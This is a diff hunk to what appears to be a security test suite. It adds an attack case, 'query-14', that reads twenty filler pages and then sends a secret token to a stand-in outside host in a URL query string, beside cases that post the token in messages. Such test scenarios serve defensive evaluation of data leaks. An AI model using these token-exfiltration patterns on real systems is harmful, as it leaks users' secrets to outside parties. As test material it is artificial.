@@ -225,6 +225,13 @@ ATTACKS: Mapping[str, Attack] = {
         at_once=lambda world: [fetch("away", f"{world.away}/one", for_each="${look#/body/items}")],
         cards={"away": {}},
     ),
+    "query-14": Attack(
+        way="query string",
+        does="reads 64 KiB of other pages before it writes the token into the query itself",
+        reads=lambda world: [*_looks(world), *(fetch(f"calm{n}", f"{world.pages}/calm?page={n}") for n in range(20))],
+        then=lambda world: [fetch("away", f"{world.away}/?q={_C}")],
+        cards=_marks("away", url="look"),
+    ),
     "message-1": _once("message", "posts the token", _post("${look#/body/token}")),
     "message-2": _then("message", "writes it itself", _post(f"the token is {_C}")),
     "message-3": _then("message", "writes it with spaces in it", _post(f"the token is {' '.join(_C)}")),
